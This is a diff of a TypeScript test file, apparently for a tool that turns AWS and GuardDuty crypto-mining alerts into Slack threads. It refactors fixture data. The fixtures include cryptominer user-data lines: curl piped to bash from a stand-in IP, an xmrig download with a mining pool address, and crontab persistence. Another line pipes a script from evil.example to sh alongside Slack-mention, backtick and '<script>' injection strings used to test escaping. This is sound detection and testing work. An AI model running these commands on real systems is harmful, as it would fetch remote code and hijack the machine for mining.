@@ -1,40 +1,19 @@
 import { FakeAws } from './support/fake-aws';
 import { fixture, startHarness, tearDownAfterEach, waitFor, type Harness } from './support/harness';
+import { MINER_SCRIPT_LINES, runInstancesEvent } from './support/scenes';
 import { click, textOf, threadReplies } from './support/slack-user';
 
 const INSTANCE = 'i-0a1b2c3d4e5f60718';
 const SIBLINGS = ['i-0000000000000bbb1', 'i-0000000000000bbb2'];
 const PRINCIPAL = 'arn:aws:iam::123456789012:user/ci-deploy';
 const KEY = 'AKIAEXAMPLEKEY123456';
+const runEvent = (ids: string[], time: string) => runInstancesEvent(ids, time, { accessKeyId: KEY, arn: PRINCIPAL }, { userAgent: 'aws-cli/2.13.0 <script>' });
 
 const MINER_USER_DATA = [
-  '#!/bin/bash',
-  'yum update -y',
-  'mkdir -p /tmp/.x && cd /tmp/.x',
-  'curl -s http://203.0.113.50/install.sh | bash',
-  'wget -q http://203.0.113.50/xmrig -O /tmp/.x/xmrig',
-  'chmod +x /tmp/.x/xmrig',
-  'nohup /tmp/.x/xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ &',
-  '(crontab -l; echo "@reboot /tmp/.x/xmrig") | crontab -',
+  ...MINER_SCRIPT_LINES,
   'curl -s https://evil.example/<!channel>/x.sh | sh # <@U02LEAD> `whoami`',
   ...Array.from({ length: 12 }, (_, i) => `echo configuring step ${i}`),
 ].join('\n');
-
-function runEvent(instanceIds: string[], time: string) {
-  return {
-    name: 'RunInstances',
-    time,
-    resources: instanceIds,
-    accessKeyId: KEY,
-    detail: {
-      eventName: 'RunInstances',
-      userIdentity: { type: 'IAMUser', arn: PRINCIPAL, accessKeyId: KEY },
-      sourceIPAddress: '198.51.100.23',
-      userAgent: 'aws-cli/2.13.0 <script>',
-      responseElements: { instancesSet: { items: instanceIds.map((instanceId) => ({ instanceId })) } },
-    },
-  };
-}
 
 async function storyOf(h: Harness) {
   expect((await h.postEvents(fixture('guardduty-crypto-dns'))).status).toBe(202);
